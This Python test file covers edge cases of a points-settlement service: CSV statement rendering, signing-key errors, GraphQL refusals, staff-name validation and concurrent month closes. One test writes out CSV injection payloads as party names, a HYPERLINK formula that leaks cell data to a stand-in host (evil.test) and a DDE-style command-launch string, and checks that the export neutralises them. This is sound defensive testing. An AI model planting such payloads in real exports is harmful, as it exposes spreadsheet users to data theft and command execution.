"""Edges of statements, statement keys and staff tokens found in an audit: CSV injection through
a party's name, a bad statement key or public key giving a one-line error instead of a
traceback, signed statements of drafts over GraphQL, and staff names the table cannot hold."""

from __future__ import annotations

import csv
import io
import warnings
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select, update

from infra.cli import main
from network import staff
from network.config import ConfigError, Settings, get_settings
from network.db.engine import Database
from network.db.schema import parties
from network.parties import network_party_id
from network.staff import StaffError, staff_tokens
from settlement import run
from settlement.statements import render, signing
from settlement.statements.build import build_statement
from tests.settlement import scenario as S
from tests.settlement.world import World, build

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

LATER = datetime(2026, 12, 10, tzinfo=UTC)


@pytest.fixture
def world(pg_db: Database) -> World:
    return build(pg_db, pg_db.read(network_party_id), reversal=False)


@pytest.fixture
def settings(pg_db: Database) -> Settings:
    return Settings(database_url=pg_db.url, env="test", secret_key="edges-secret")


def _rename(db: Database, party_id: int, name: str) -> None:
    db.write(lambda c: c.execute(update(parties).where(parties.c.id == party_id)
                                 .values(name=name)))


def test_csv_statement_neutralises_formula_names(world: World, settings: Settings) -> None:
    """A partner named '=HYPERLINK(…)' must not become a live formula in the accountant's
    spreadsheet; amounts (negative numbers start with '-') stay numbers."""
    evil = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    _rename(world.db, world.party(S.B), evil)
    _rename(world.db, world.party(S.C), "+cmd|' /C calc'!A0")
    closed = run.close(world.db, settings, "2026-10", now=LATER)
    st = world.db.read(build_statement, closed.run, world.party(S.A), LATER)
    rows = list(csv.DictReader(io.StringIO(render.to_csv(st).decode())))
    names = {r["counterparty"]: r["counterparty_name"] for r in rows if r["counterparty"]}
    assert names["telecom"] == "'" + evil
    assert names["pharmacy"] == "'+cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
    net = next(r for r in rows if r["kind"] == "net")
    assert net["amount_minor"] == "-8794" and net["amount"] == "-87.94"


def test_csv_and_html_keep_persian_names_exact(world: World, settings: Settings) -> None:
    name = "داروخانهٔ مرکزی\u200cشعبه ۲"
    _rename(world.db, world.party(S.C), name)
    closed = run.close(world.db, settings, "2026-10", now=LATER)
    st = world.db.read(build_statement, closed.run, world.party(S.A), LATER)
    rows = list(csv.DictReader(io.StringIO(render.to_csv(st).decode("utf-8"))))
    assert name in {r["counterparty_name"] for r in rows}
    # Isolated, so a right-to-left name ending in a neutral character does not pull the
    # parenthesised code that follows it into its own direction.
    assert f"<bdi>{name}</bdi> <small class=\"code\">(" in render.to_html(st).decode("utf-8")


def test_unreadable_statement_key_is_a_config_error(tmp_path: Path) -> None:
    for path, content in ((tmp_path / "missing.pem", None), (tmp_path / "junk.pem", b"junk")):
        if content is not None:
            path.write_bytes(content)
        settings = Settings(database_url="sqlite://", env="test", secret_key="s",
                            extra={"STATEMENT_KEY_PATH": str(path)})
        with pytest.raises(ConfigError, match="POINTSNET_STATEMENT_KEY_PATH"):
            signing.statement_key(settings)


def test_cli_key_errors_are_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POINTSNET_SECRET_KEY", "cli-edges-secret")
    monkeypatch.setenv("POINTSNET_STATEMENT_KEY_PATH", str(tmp_path / "missing.pem"))
    get_settings.cache_clear()
    try:
        cli = CliRunner()
        out = cli.invoke(main, ["settle", "public-key"])
        assert isinstance(out.exception, SystemExit), out.exception  # not FileNotFoundError
        assert out.exit_code == 2 and "POINTSNET_STATEMENT_KEY_PATH" in out.output
        statement = tmp_path / "s.csv"
        statement.write_bytes(b"period\n")
        junk = tmp_path / "junk.pem"
        junk.write_bytes(b"not a key")
        bad_key = cli.invoke(main, ["settle", "verify-statement", str(statement),
                                    "--signature", str(junk), "--public-key", str(junk)])
        assert bad_key.exit_code == 2 and "pointsnet: error: BAD_PUBLIC_KEY: " in bad_key.output
        no_sig = cli.invoke(main, ["settle", "verify-statement", str(statement),
                                   "--public-key", str(junk)])
        assert no_sig.exit_code == 2 and "pointsnet: error: NO_SIGNATURE: " in no_sig.output
    finally:
        get_settings.cache_clear()


def test_staff_draft_statement_is_refused_over_graphql(world: World, settings: Settings) -> None:
    """The CLI and the partner query give no signed statement for a draft; nor may staff."""
    from infra.app import create_app

    http = TestClient(create_app(settings, world.db), base_url="http://hub.test")
    _, token = staff.create(world.db, "Fiona", {"finance"})
    run.preview(world.db, settings, "2026-10", now=LATER)
    query = """{ settlementRun(period: "2026-10") { status
        statement(partyCode: "cafe") { csv csvSignature } } }"""
    body = http.post("/graphql", json={"query": query},
                     headers={"Authorization": f"Bearer {token}"}).json()
    assert body["data"]["settlementRun"]["statement"] is None
    assert body["errors"][0]["extensions"]["code"] == "PERIOD_NOT_CLOSED"
    run.close(world.db, settings, "2026-10", now=LATER)
    closed = http.post("/graphql", json={"query": query},
                       headers={"Authorization": f"Bearer {token}"}).json()
    assert "errors" not in closed and closed["data"]["settlementRun"]["statement"]["csv"]


@pytest.mark.parametrize("name", ["F" * 201, "Fiona\x00Finance", "Fiona\nFinance"])
def test_staff_token_name_the_table_cannot_hold_is_refused(pg_db: Database, name: str) -> None:
    with pytest.raises(StaffError) as err:
        staff.create(pg_db, name, {"finance"})
    assert err.value.code == "BAD_NAME" and err.value.field == "name"
    assert pg_db.read(lambda c: c.execute(select(staff_tokens.c.id)).all()) == []


def test_staff_token_keeps_a_persian_name_with_zwnj(pg_db: Database) -> None:
    name = "مهسا\u200cسادات رضایی"
    token_id, _ = staff.create(pg_db, name, {"viewer"})
    stored = pg_db.read(lambda c: c.execute(select(staff_tokens.c.name).where(
        staff_tokens.c.id == token_id)).scalar_one())
    assert stored == name


def test_staff_query_errors_keep_their_stable_codes(world: World, settings: Settings) -> None:
    """settlementRun(period:) and statement(partyCode:) refusals carry the settlement code and
    field, not graphql-core's generic BAD_USER_INPUT."""
    from infra.app import create_app

    http = TestClient(create_app(settings, world.db), base_url="http://hub.test")
    _, token = staff.create(world.db, "Fiona", {"viewer"})
    run.close(world.db, settings, "2026-10", now=LATER)
    auth = {"Authorization": f"Bearer {token}"}
    for query, code, field in (
        ('{ settlementRun(period: "2026-13") { status } }', "BAD_PERIOD", "period"),
        ('{ settlementRun(period: "9999-01") { status } }', "PERIOD_OUT_OF_RANGE", "period"),
        ('{ settlementRun(period: "2026-10") { statement(partyCode: "nobody") { csv } } }',
         "NO_PARTY", "partyCode"),
    ):
        error = http.post("/graphql", json={"query": query}, headers=auth).json()["errors"][0]
        assert error["extensions"] == {"code": code, "field": field}, error


def test_concurrent_closes_on_postgresql_make_one_run(world: World, settings: Settings) -> None:
    """Two finance staff close the same month at once: one run, one hash, one 'changed'."""
    from concurrent.futures import ThreadPoolExecutor

    from settlement import store

    with ThreadPoolExecutor(2) as pool:
        outcomes = list(pool.map(lambda _: run.close(world.db, settings, "2026-10", now=LATER),
                                 range(2)))
    runs = world.db.read(store.list_runs)
    assert [(r.period, r.status) for r in runs] == [("2026-10", "closed")]
    assert {o.run.id for o in outcomes} == {runs[0].id}
    assert {o.run.content_hash for o in outcomes} == {runs[0].content_hash}
    assert sorted(o.changed for o in outcomes) == [False, True]
